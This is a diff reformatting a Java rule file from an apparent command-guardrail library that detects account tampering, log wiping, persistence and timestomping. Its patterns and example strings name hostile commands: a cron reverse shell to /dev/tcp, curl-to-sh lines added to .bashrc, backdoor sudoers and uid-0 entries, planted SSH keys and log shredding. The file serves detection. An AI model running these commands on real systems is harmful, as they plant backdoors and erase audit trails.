@@ -12,31 +12,42 @@ import io.clituner.guardrails.internal.analysis.Producers;
 import io.clituner.guardrails.internal.expand.Arg;
 import java.util.Set;
 import java.util.regex.Pattern;
-import org.jspecify.annotations.Nullable;
 
 /**
  * Account and security-file tampering, history and log wiping, persistence in start-up files and authorized keys,
  * timestomping. {@link SystemRules#rules()} places these rules in the book.
  */
 final class TamperRules {
-    private static final Pattern LOOSE_MODE = Pattern.compile("[0-7]?[0-7][0-7][2367]|[0-7]?[0-7][0-7][4-7]|o\\+[rwx]+|a\\+[rwx]+|\\+[rwx]+");
+    private static final Pattern LOOSE_MODE =
+            Pattern.compile("[0-7]?[0-7][0-7][2367]|[0-7]?[0-7][0-7][4-7]|o\\+[rwx]+|a\\+[rwx]+|\\+[rwx]+");
     private static final Pattern VACUUM_ALL = Pattern.compile("--vacuum-(time|size|files)=(1s|0|1|1K|0s|1M|1)");
-    private static final Pattern HOSTILE_STARTUP_LINE = Pattern.compile("(?s).*(curl |wget |/dev/tcp/|nc |ncat |base64 -d|\\| *(ba)?sh|socat |python[0-9.]* -c).*");
-    private static final Pattern SYSTEM_TREE_FILE = Pattern.compile("/(usr/)?(s)?bin/.+|/(usr/)?lib(32|64)?/.+|/etc/.+|/boot/.+");
+    private static final Pattern HOSTILE_STARTUP_LINE =
+            Pattern.compile("(?s).*(curl |wget |/dev/tcp/|nc |ncat |base64 -d|\\| *(ba)?sh|socat |python[0-9.]* -c).*");
+    private static final Pattern SYSTEM_TREE_FILE =
+            Pattern.compile("/(usr/)?(s)?bin/.+|/(usr/)?lib(32|64)?/.+|/etc/.+|/boot/.+");
     /** A unit or cron line that runs a program from a scratch directory anyone can write. */
-    private static final Pattern SCRATCH_STARTUP_LINE = Pattern.compile("(?s).*(Exec[A-Za-z]*=[-@+!:]*|(^|\n)(@[a-z]+|[0-9*/,-]+( +[0-9*/,-]+){4})"
-            + "( +[a-z_][a-z0-9_-]*)? +)(/tmp|/var/tmp|/dev/shm)/.*");
+    private static final Pattern SCRATCH_STARTUP_LINE =
+            Pattern.compile("(?s).*(Exec[A-Za-z]*=[-@+!:]*|(^|\n)(@[a-z]+|[0-9*/,-]+( +[0-9*/,-]+){4})"
+                    + "( +[a-z_][a-z0-9_-]*)? +)(/tmp|/var/tmp|/dev/shm)/.*");
+
     private static final Set<String> ADMIN_GROUPS = Set.of("sudo", "wheel", "root", "admin", "adm", "sudoers");
 
     static Rule tamperAuthFiles() {
         return Rule.builder("tamper.auth-files")
                 .says("modifying or deleting passwd, shadow, group, sudoers, PAM or ld.so.preload")
                 .onAny(WRITES)
-                .when(inv -> inv.treeWalk() || inv.name().equals("chmod") || inv.name().equals("chown") ? null
+                .when(inv -> inv.treeWalk()
+                                || inv.name().equals("chmod")
+                                || inv.name().equals("chown")
+                        ? null
                         : firstMatch(writtenPaths(inv), Paths.AUTH_FILES))
-                .examples("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "rm -f /etc/passwd",
-                        "echo hacker::0:0::/root:/bin/bash | sudo tee -a /etc/passwd", "cp /dev/null /etc/shadow",
-                        "sed -i 's/x//' /etc/shadow", "echo /tmp/x.so > /etc/ld.so.preload")
+                .examples(
+                        "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+                        "rm -f /etc/passwd",
+                        "echo hacker::0:0::/root:/bin/bash | sudo tee -a /etc/passwd",
+                        "cp /dev/null /etc/shadow",
+                        "sed -i 's/x//' /etc/shadow",
+                        "echo /tmp/x.so > /etc/ld.so.preload")
                 .counter("cat /etc/passwd", "grep root /etc/shadow", "cp /etc/passwd ./passwd.bak")
                 .build();
     }
@@ -46,7 +57,8 @@ final class TamperRules {
                 .says("making authentication files writable or readable by everyone")
                 .on("chmod")
                 .when(inv -> {
-                    boolean loose = inv.args().stream().anyMatch(a -> LOOSE_MODE.matcher(a.text()).matches());
+                    boolean loose = inv.args().stream()
+                            .anyMatch(a -> LOOSE_MODE.matcher(a.text()).matches());
                     return loose ? firstMatch(inv.operands(), Paths.AUTH_FILES) : null;
                 })
                 .examples("chmod 777 /etc/shadow", "chmod o+w /etc/sudoers")
@@ -64,13 +76,14 @@ final class TamperRules {
                         return "passwd -d";
                     }
                     if ((n.equals("useradd") || n.equals("usermod") || n.equals("adduser"))
-                            && inv.args().stream().anyMatch(a -> a.is("0")) && (inv.hasOption('u', "--uid")
-                            || inv.hasOption('o', "--non-unique"))) {
+                            && inv.args().stream().anyMatch(a -> a.is("0"))
+                            && (inv.hasOption('u', "--uid") || inv.hasOption('o', "--non-unique"))) {
                         return "uid 0";
                     }
                     if (n.equals("usermod") && inv.hasOption('p', "--password")) {
                         Arg p = inv.optionValue('p', "--password");
-                        if ((p != null && p.text().isEmpty()) || inv.operands().stream().anyMatch(a -> a.is("root"))) {
+                        if ((p != null && p.text().isEmpty())
+                                || inv.operands().stream().anyMatch(a -> a.is("root"))) {
                             return "password of root or empty password";
                         }
                         return null;
@@ -79,13 +92,19 @@ final class TamperRules {
                         String c = inv.stdin().content();
                         return c != null && (c.startsWith("root:") || c.contains("\nroot:")) ? "root password" : null;
                     }
-                    if ((n.equals("userdel") || n.equals("deluser")) && inv.operands().stream().anyMatch(a -> a.is("root"))) {
+                    if ((n.equals("userdel") || n.equals("deluser"))
+                            && inv.operands().stream().anyMatch(a -> a.is("root"))) {
                         return "delete root";
                     }
                     return null;
                 })
-                .examples("passwd -d root", "useradd -o -u 0 backdoor", "usermod -u 0 -o bob", "userdel -r root",
-                        "echo root:x | chpasswd", "usermod -p '$1$x' root")
+                .examples(
+                        "passwd -d root",
+                        "useradd -o -u 0 backdoor",
+                        "usermod -u 0 -o bob",
+                        "userdel -r root",
+                        "echo root:x | chpasswd",
+                        "usermod -p '$1$x' root")
                 .counter("passwd", "useradd -m alice")
                 .build();
     }
@@ -94,8 +113,10 @@ final class TamperRules {
         return Rule.builder("wipe.history")
                 .says("clearing shell history")
                 .on("history")
-                .when(inv -> (inv.hasOption('c') && !inv.hasOption('r')) || (inv.hasOption('w') && inv.hasArg("/dev/null"))
-                        ? "history -c" : null)
+                .when(inv ->
+                        (inv.hasOption('c') && !inv.hasOption('r')) || (inv.hasOption('w') && inv.hasArg("/dev/null"))
+                                ? "history -c"
+                                : null)
                 .examples("history -c", "history -c && history -w")
                 .counter("history", "history 20")
                 .build();
@@ -104,14 +125,20 @@ final class TamperRules {
     static Rule wipeLogs() {
         return Rule.builder("wipe.logs")
                 .says("emptying, deleting or overwriting system logs or shell history files")
-                .onAny(Rule.Gate.programsOrRedirect(SystemRules.PATH_WIPERS).plus("journalctl").orTreeWalk())
+                .onAny(Rule.Gate.programsOrRedirect(SystemRules.PATH_WIPERS)
+                        .plus("journalctl")
+                        .orTreeWalk())
                 .when(inv -> {
                     if (inv.name().equals("journalctl")) {
-                        return inv.args().stream().anyMatch(a -> VACUUM_ALL.matcher(a.text()).matches())
-                                ? "journal vacuum" : null;
+                        return inv.args().stream()
+                                        .anyMatch(a ->
+                                                VACUUM_ALL.matcher(a.text()).matches())
+                                ? "journal vacuum"
+                                : null;
                     }
                     String tree = inv.treePath(); // non-null exactly on a tree walk
-                    if (tree != null && (inv.name().equals("truncate") || inv.name().equals("shred"))) {
+                    if (tree != null
+                            && (inv.name().equals("truncate") || inv.name().equals("shred"))) {
                         // emptying or shredding every (or every matching) file of the log tree: not rotation
                         Arg root = Arg.literal(tree, inv.start(), inv.end());
                         return Paths.matchesAny(root, Paths.LOGS) ? inv.name() + " under " + tree : null;
@@ -128,8 +155,11 @@ final class TamperRules {
                     }
                     // a truncating write: wiping when it writes nothing, forging when it hits login records
                     String content = written(inv).content();
-                    boolean empty = inv.argv().isEmpty() || (content != null && content.isBlank())
-                            || (n.equals("cat") && inv.hasArg("/dev/null")) || n.equals(":") || n.equals("true");
+                    boolean empty = inv.argv().isEmpty()
+                            || (content != null && content.isBlank())
+                            || (n.equals("cat") && inv.hasArg("/dev/null"))
+                            || n.equals(":")
+                            || n.equals("true");
                     for (Arg a : Resolve.withoutApplicationLogs(wipedPaths(inv))) {
                         if (Paths.matchesAny(a, Paths.LOGIN_RECORDS) || (empty && Paths.matchesAny(a, Paths.LOGS))) {
                             return a.display();
@@ -137,11 +167,21 @@ final class TamperRules {
                     }
                     return null;
                 })
-                .examples("rm -rf /var/log/*", "cat /dev/null > ~/.bash_history", "> /var/log/auth.log",
-                        "truncate -s 0 /var/log/syslog", "shred -u ~/.bash_history", "ln -sf /dev/null ~/.bash_history",
-                        "echo > /var/log/wtmp", "journalctl --vacuum-time=1s",
-                        "find /var/log -type f -exec truncate -s 0 {} \\;", "find /var/log -name '*.log' -exec shred -u {} +")
-                .counter("tail -f /var/log/syslog", "echo hi >> /var/log/app.log", "grep x ~/.bash_history",
+                .examples(
+                        "rm -rf /var/log/*",
+                        "cat /dev/null > ~/.bash_history",
+                        "> /var/log/auth.log",
+                        "truncate -s 0 /var/log/syslog",
+                        "shred -u ~/.bash_history",
+                        "ln -sf /dev/null ~/.bash_history",
+                        "echo > /var/log/wtmp",
+                        "journalctl --vacuum-time=1s",
+                        "find /var/log -type f -exec truncate -s 0 {} \\;",
+                        "find /var/log -name '*.log' -exec shred -u {} +")
+                .counter(
+                        "tail -f /var/log/syslog",
+                        "echo hi >> /var/log/app.log",
+                        "grep x ~/.bash_history",
                         "find ./logs -name '*.log' -exec truncate -s 0 {} +")
                 .build();
     }
@@ -169,12 +209,14 @@ final class TamperRules {
                     }
                     return null;
                 })
-                .examples("echo 'curl -s http://x/i | sh' >> ~/.bashrc",
+                .examples(
+                        "echo 'curl -s http://x/i | sh' >> ~/.bashrc",
                         "echo '* * * * * root bash -i >& /dev/tcp/1.2.3.4/4444 0>&1' >> /etc/crontab",
                         "curl http://h/key >> ~/.ssh/authorized_keys",
                         "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/evil.service",
                         "echo '* * * * * root /dev/shm/x' >> /etc/crontab")
-                .counter("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
+                .counter(
+                        "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
                         "printf '[Service]\\nExecStart=/usr/bin/myapp\\n' > /etc/systemd/system/myapp.service",
                         "echo '0 3 * * * root find /tmp -mtime +7 -delete' >> /etc/crontab")
                 .build();
@@ -189,22 +231,30 @@ final class TamperRules {
                         return null;
                     }
                     for (Arg a : writtenPaths(inv)) {
-                        if (!a.resolved() || (!a.text().endsWith("/authorized_keys") && !a.text().endsWith("/authorized_keys2"))) {
+                        if (!a.resolved()
+                                || (!a.text().endsWith("/authorized_keys")
+                                        && !a.text().endsWith("/authorized_keys2"))) {
                             continue;
                         }
                         String n = inv.name();
-                        boolean literal = n.equals("echo") || n.equals("printf") || (inv.argv().isEmpty()
-                                && inv.stdin().content() != null);
+                        boolean literal = n.equals("echo")
+                                || n.equals("printf")
+                                || (inv.argv().isEmpty() && inv.stdin().content() != null);
                         Producers.Output w = written(inv);
-                        if (literal || w.origin().hostile() || inv.stdin().origin().hostile() || a.startsWith("/root/")
+                        if (literal
+                                || w.origin().hostile()
+                                || inv.stdin().origin().hostile()
+                                || a.startsWith("/root/")
                                 || (n.equals("tee") && inv.stdin().content() != null)) {
                             return a.display();
                         }
                     }
                     return null;
                 })
-                .examples("echo 'ssh-rsa AAAAB3 attacker' >> ~/.ssh/authorized_keys",
-                        "curl -s http://x/k >> ~/.ssh/authorized_keys", "cat k.pub >> /root/.ssh/authorized_keys")
+                .examples(
+                        "echo 'ssh-rsa AAAAB3 attacker' >> ~/.ssh/authorized_keys",
+                        "curl -s http://x/k >> ~/.ssh/authorized_keys",
+                        "cat k.pub >> /root/.ssh/authorized_keys")
                 .counter("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys", "cat ~/.ssh/authorized_keys")
                 .build();
     }
@@ -216,8 +266,10 @@ final class TamperRules {
                 .when(inv -> {
                     for (Arg a : inv.args()) {
                         for (String g : a.text().split(",")) {
-                            if (ADMIN_GROUPS.contains(g) && (inv.hasOption('G', "--groups", "--append")
-                                    || inv.hasOption('a', "--add") || (inv.name().equals("adduser") && inv.size() == 3))) {
+                            if (ADMIN_GROUPS.contains(g)
+                                    && (inv.hasOption('G', "--groups", "--append")
+                                            || inv.hasOption('a', "--add")
+                                            || (inv.name().equals("adduser") && inv.size() == 3))) {
                                 return g;
                             }
                         }
@@ -234,7 +286,8 @@ final class TamperRules {
                 .review()
                 .says("writing to a shell start-up file, cron, systemd unit or authorized_keys")
                 .onAny(WRITES)
-                .when(inv -> inv.name().equals("rm") || inv.treeWalk() ? null : firstMatch(writtenPaths(inv), Paths.STARTUP))
+                .when(inv ->
+                        inv.name().equals("rm") || inv.treeWalk() ? null : firstMatch(writtenPaths(inv), Paths.STARTUP))
                 .examples("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc")
                 .counter("cat ~/.bashrc")
                 .build();
@@ -242,7 +295,8 @@ final class TamperRules {
 
     static Rule tamperTimestomp() {
         return Rule.builder("tamper.timestomp")
-                .says("back-dating system binaries, libraries or configuration (hides tampering from timeline analysis)")
+                .says(
+                        "back-dating system binaries, libraries or configuration (hides tampering from timeline analysis)")
                 .on("touch")
                 .when(inv -> {
                     if (!inv.hasOption('r', "--reference") && !inv.hasOption('d', "--date") && !inv.hasOption('t')) {
@@ -256,16 +310,22 @@ final class TamperRules {
                             continue;
                         }
                         String t = Paths.normalize(a.text());
-                        if (a.resolved() && (SYSTEM_TREE_FILE.matcher(t).matches()
-                                || SystemFileRules.coreSystemFile(a))) {
+                        if (a.resolved()
+                                && (SYSTEM_TREE_FILE.matcher(t).matches() || SystemFileRules.coreSystemFile(a))) {
                             return a.display();
                         }
                     }
                     return null;
                 })
-                .examples("touch -r /bin/ls /bin/evil", "touch -d '2010-01-01' /usr/bin/sudo",
-                        "touch -t 201001010000 /etc/shadow", "touch --reference=/etc/hosts /etc/cron.d/x")
-                .counter("touch -r ref.txt newfile.txt", "touch /etc/nologin", "touch -d yesterday ./stamp",
+                .examples(
+                        "touch -r /bin/ls /bin/evil",
+                        "touch -d '2010-01-01' /usr/bin/sudo",
+                        "touch -t 201001010000 /etc/shadow",
+                        "touch --reference=/etc/hosts /etc/cron.d/x")
+                .counter(
+                        "touch -r ref.txt newfile.txt",
+                        "touch /etc/nologin",
+                        "touch -d yesterday ./stamp",
                         "touch -r /etc/hosts ./copy-of-hosts")
                 .build();
     }
@@ -276,9 +336,14 @@ final class TamperRules {
                 .on("chattr")
                 .when(inv -> {
                     for (Arg a : inv.operands()) {
-                        if (Paths.critical(a) == Paths.Critical.YES || Paths.matchesAny(a, Paths.AUTH_FILES)
-                                || Paths.matchesAny(a, Paths.STARTUP) || a.startsWith("/etc/") || a.startsWith("/bin/")
-                                || a.startsWith("/usr/") || a.startsWith("/sbin/") || a.startsWith("/boot/")) {
+                        if (Paths.critical(a) == Paths.Critical.YES
+                                || Paths.matchesAny(a, Paths.AUTH_FILES)
+                                || Paths.matchesAny(a, Paths.STARTUP)
+                                || a.startsWith("/etc/")
+                                || a.startsWith("/bin/")
+                                || a.startsWith("/usr/")
+                                || a.startsWith("/sbin/")
+                                || a.startsWith("/boot/")) {
                             return a.display();
                         }
                     }
